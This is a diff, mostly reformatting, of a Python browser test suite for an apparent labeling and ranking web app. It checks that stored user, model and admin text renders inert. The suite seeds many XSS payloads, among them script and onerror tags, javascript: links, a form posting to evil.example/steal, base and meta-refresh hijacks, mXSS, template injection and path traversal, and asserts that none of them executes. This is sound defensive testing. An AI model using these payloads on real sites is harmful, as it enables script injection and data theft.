@@ -6,6 +6,7 @@ Execution is detected four ways, so a payload that slips through cannot go unsee
 assigns `window.__pwned` (a setter planted before any page script reports it), dialogs, console
 messages and Content-Security-Policy violations are recorded, and every request the browser makes
 to another origin (evil.example in the payloads) is recorded too."""
+
 from __future__ import annotations
 
 import json
@@ -22,22 +23,22 @@ pytestmark = [pytest.mark.browser, pytest.mark.parametrize("db_url", ["sqlite"],
 
 DESKTOP = {"width": 1280, "height": 900}
 PHONE = {"width": 390, "height": 844}
-HUGE = "A" * 200_000                      # one unbroken 200k-character word
+HUGE = "A" * 200_000  # one unbroken 200k-character word
 RLO, ZERO_WIDTH = "\u202e", "zero\u200bwidth\ufeffjoin"
 # Each string is one completion (the page shows at most nine per task).
 MARKUP = [
     "<script>window.__pwned='script'</script> <script src=\"http://evil.example/x.js\"></script>",
     "<img src=x onerror=\"window.__pwned='img'\"> <svg onload=\"window.__pwned='svg'\"><circle r=9 /></svg>",
-    "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe> <object data=\"http://evil.example/o\">",
+    '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe> <object data="http://evil.example/o">',
     "[md link](javascript:window.__pwned='md-link') <a href=\"javascript:window.__pwned='a'\">a link</a> "
     "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+) ![pixel](http://evil.example/p.png)",
-    "<style>body{display:none}</style><div style=\"position:fixed;inset:0;z-index:2147483647;background:#fff\">"
+    '<style>body{display:none}</style><div style="position:fixed;inset:0;z-index:2147483647;background:#fff">'
     "covering overlay</div>",
-    "<form action=\"http://evil.example/steal\"><input name=q></form> <meta http-equiv=\"refresh\" "
-    "content=\"0;url=http://evil.example/\"> <base href=\"http://evil.example/\"> "
+    '<form action="http://evil.example/steal"><input name=q></form> <meta http-equiv="refresh" '
+    'content="0;url=http://evil.example/"> <base href="http://evil.example/"> '
     "<link rel=stylesheet href=//evil.example/c>",
     "<div style=\"width: expression(window.__pwned='expression')\">CSS expression</div> "
-    "<div hx-get=\"http://evil.example/htmx\" hx-trigger=\"load\">htmx attributes</div> {{ 7*7 }}",
+    '<div hx-get="http://evil.example/htmx" hx-trigger="load">htmx attributes</div> {{ 7*7 }}',
     HUGE,
     f"File: {RLO}txt.exe and an override never closed; {ZERO_WIDTH}",
 ]
@@ -47,12 +48,18 @@ LONG_LINES = [
     "\"><img src=x onerror=window.__pwned='attr'> <details open ontoggle=\"window.__pwned='details'\">d</details>",
     "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned='mxss'></style></mglyph></table>",
 ]
-CHAT = [{"role": "system", "content": "<script>window.__pwned='system'</script> " + "S" * 3000},
-        {"role": "user",
-         "content": f"[turn](javascript:window.__pwned='turn') <svg/onload=window.__pwned='turn'> {RLO}abc"}]
+CHAT = [
+    {"role": "system", "content": "<script>window.__pwned='system'</script> " + "S" * 3000},
+    {
+        "role": "user",
+        "content": f"[turn](javascript:window.__pwned='turn') <svg/onload=window.__pwned='turn'> {RLO}abc",
+    },
+]
 NAME = "Evil \"quoted\" <script>window.__pwned='name'</script> " + "N" * 120 + f" {RLO}eman"
-GUIDELINES = ("# Rules\n\n<script>window.__pwned='guidelines'</script>\n\n[help](javascript:window.__pwned='guide')\n\n"
-              "<div style=\"position:fixed;inset:0;z-index:99\">overlay</div>\n\n" + "G" * 5000)
+GUIDELINES = (
+    "# Rules\n\n<script>window.__pwned='guidelines'</script>\n\n[help](javascript:window.__pwned='guide')\n\n"
+    '<div style="position:fixed;inset:0;z-index:99">overlay</div>\n\n' + "G" * 5000
+)
 
 TRIPWIRES = """(() => {
   const trip = (kind, detail) => window.__trip(kind, String(detail));
@@ -96,9 +103,13 @@ class Watch:
         assert self.fired == [], self.fired
         assert page.evaluate("() => window.__pwned") is None
         # No live markup came out of stored text: escaped, never elements.
-        assert page.locator(".untrusted :is(script, img, svg, iframe, object, style, form, meta, base, link, math, "
-                            "details, [style], [hx-get], [onerror], [onload], a[href^='javascript'], a[href^='data'])"
-                            ).count() == 0
+        assert (
+            page.locator(
+                ".untrusted :is(script, img, svg, iframe, object, style, form, meta, base, link, math, "
+                "details, [style], [hx-get], [onerror], [onload], a[href^='javascript'], a[href^='data'])"
+            ).count()
+            == 0
+        )
         assert page.locator("head base, head meta[http-equiv]").count() == 0
         assert page.evaluate("() => document.documentElement.scrollWidth <= window.innerWidth"), page.evaluate(WIDER)
         assert page.evaluate("() => getComputedStyle(document.body).display") != "none"
@@ -116,10 +127,19 @@ def _hittable(locator) -> bool:
 
 
 def _seed_tasks(db):
-    project = make_project(db, name=NAME, overlap=1, guidelines=GUIDELINES,
-                           flags=["unsafe", "\"><img src=x onerror=window.__pwned='flag'>"])
-    text_task = make_task(db, project, texts=MARKUP, prompt_text="Explain <b>closures</b> "
-                          "<script>window.__pwned='prompt'</script> " + "P" * 20_000)
+    project = make_project(
+        db,
+        name=NAME,
+        overlap=1,
+        guidelines=GUIDELINES,
+        flags=["unsafe", "\"><img src=x onerror=window.__pwned='flag'>"],
+    )
+    text_task = make_task(
+        db,
+        project,
+        texts=MARKUP,
+        prompt_text="Explain <b>closures</b> <script>window.__pwned='prompt'</script> " + "P" * 20_000,
+    )
     chat_task = make_task(db, project, texts=LONG_LINES)
     prompt = db.get(Prompt, chat_task.prompt_id)
     prompt.text, prompt.messages = None, CHAT
@@ -152,10 +172,10 @@ def test_hostile_tasks_never_run_and_rank_by_keyboard(live_url, browser, db):
         watch.assert_inert_and_fits()
         _check_task(page)
         shown = page.eval_on_selector_all(".completion-body", "bodies => bodies.map(b => b.textContent)")
-        assert sum("window.__pwned" in s for s in shown) >= 2              # the payloads are shown, as text
+        assert sum("window.__pwned" in s for s in shown) >= 2  # the payloads are shown, as text
         if len(shown) == len(MARKUP):
             assert any(HUGE in s for s in shown) and any(ZERO_WIDTH in s for s in shown)  # nothing dropped
-            assert "{{ 7*7 }}" in "".join(shown)                             # never evaluated as a template
+            assert "{{ 7*7 }}" in "".join(shown)  # never evaluated as a template
         # Rank by keyboard alone: the last card to first place, then submit.
         ids = page.eval_on_selector_all(".completion-card", "cs => cs.map(c => Number(c.dataset.completionId))")
         page.locator(".completion-card").first.focus()
@@ -172,7 +192,7 @@ def test_hostile_tasks_never_run_and_rank_by_keyboard(live_url, browser, db):
     rankings = db.scalars(select(Ranking).where(Ranking.user_id == user.id)).all()
     assert sorted(r.task_id for r in rankings) == sorted(texts_by_task)
     stored = db.scalars(select(Completion.text).join(Prompt).where(Prompt.project_id == project.id)).all()
-    assert sorted(stored) == sorted(MARKUP + LONG_LINES)                  # stored byte for byte
+    assert sorted(stored) == sorted(MARKUP + LONG_LINES)  # stored byte for byte
     watch.context.close()
 
 
@@ -193,30 +213,59 @@ def _seed_admin_pages(db):
     project.description = "<img src=x onerror=window.__pwned='description'> " + "D" * 3000
     db.commit()
     left = make_version(db, project, name="<script>window.__pwned='left'</script>" + "L" * 300)
-    right = make_version(db, project, name=f"{RLO}right", artifact_path="../../<img src=x onerror=window.__pwned=1>",
-                         metrics={"note": "<svg onload=window.__pwned='metric'>", "reward": [0.1, 0.2]})
+    right = make_version(
+        db,
+        project,
+        name=f"{RLO}right",
+        artifact_path="../../<img src=x onerror=window.__pwned=1>",
+        metrics={"note": "<svg onload=window.__pwned='metric'>", "reward": [0.1, 0.2]},
+    )
     shared = db.scalar(select(Prompt).where(Prompt.project_id == project.id, Prompt.text.is_(None)))  # the chat one
-    db.add_all([Completion(prompt_id=shared.id, text=t, model_version_id=v.id)
-                for v, texts in ((left, MARKUP[:4]), (right, MARKUP[4:])) for t in texts])
-    live = make_round(db, project, number=0, status="labeling", policy_in_id=left.id,
-                      current_step="<img src=x onerror=window.__pwned='step'>")
+    db.add_all(
+        [
+            Completion(prompt_id=shared.id, text=t, model_version_id=v.id)
+            for v, texts in ((left, MARKUP[:4]), (right, MARKUP[4:]))
+            for t in texts
+        ]
+    )
+    live = make_round(
+        db,
+        project,
+        number=0,
+        status="labeling",
+        policy_in_id=left.id,
+        current_step="<img src=x onerror=window.__pwned='step'>",
+    )
     for message in MARKUP[:3] + [HUGE[:5000]]:
         add_event(db, live, stage="<b>stage</b>", message=message)
-    failed = make_round(db, project, number=1, status="failed", error_step="training_reward",
-                        error_message="Traceback <script>window.__pwned='error'</script>\n" + "E" * 4000)
+    failed = make_round(
+        db,
+        project,
+        number=1,
+        status="failed",
+        error_step="training_reward",
+        error_message="Traceback <script>window.__pwned='error'</script>\n" + "E" * 4000,
+    )
     return project, left, right, live, failed
 
 
 def _upload_hostile_file(page) -> None:
-    lines = [json.dumps({"external_id": "<img src=x onerror=window.__pwned='id'>", "text": MARKUP[1]}),
-             "<script>window.__pwned='line'</script>", json.dumps({"external_id": "x" * 3000, "text": 5})]
+    lines = [
+        json.dumps({"external_id": "<img src=x onerror=window.__pwned='id'>", "text": MARKUP[1]}),
+        "<script>window.__pwned='line'</script>",
+        json.dumps({"external_id": "x" * 3000, "text": 5}),
+    ]
     form = page.locator("form:has(input[name=kind][value=prompts])")
-    form.locator("input[type=file]").set_input_files({"name": "<img src=x onerror=window.__pwned='file'>.jsonl",
-                                                      "mimeType": "application/x-ndjson",
-                                                      "buffer": "\n".join(lines).encode()})
+    form.locator("input[type=file]").set_input_files(
+        {
+            "name": "<img src=x onerror=window.__pwned='file'>.jsonl",
+            "mimeType": "application/x-ndjson",
+            "buffer": "\n".join(lines).encode(),
+        }
+    )
     form.locator("button[type=submit]").click()
     page.wait_for_selector("#upload-result")
-    assert "onerror" in page.locator("#upload-result h2 .untrusted").inner_text()   # the file's name, as text
+    assert "onerror" in page.locator("#upload-result h2 .untrusted").inner_text()  # the file's name, as text
 
 
 @pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
@@ -226,9 +275,15 @@ def test_admin_pages_show_hostile_text_inert(live_url, browser, db, viewport):
     watch = Watch(browser, live_url, viewport)
     page = watch.page
     watch.log_in(admin)
-    for path in ["/admin", f"/admin/projects/{project.id}", f"/admin/projects/{project.id}/rounds",
-                 f"/admin/projects/{project.id}/models?a={left.id}&b={right.id}", f"/admin/models/{right.id}",
-                 f"/admin/rounds/{failed.id}", f"/admin/projects/{project.id}/settings"]:
+    for path in [
+        "/admin",
+        f"/admin/projects/{project.id}",
+        f"/admin/projects/{project.id}/rounds",
+        f"/admin/projects/{project.id}/models?a={left.id}&b={right.id}",
+        f"/admin/models/{right.id}",
+        f"/admin/rounds/{failed.id}",
+        f"/admin/projects/{project.id}/settings",
+    ]:
         page.goto(live_url + path)
         watch.assert_inert_and_fits()
     assert "<script>window.__pwned='guidelines'</script>" in page.locator("#guidelines-preview").inner_text()
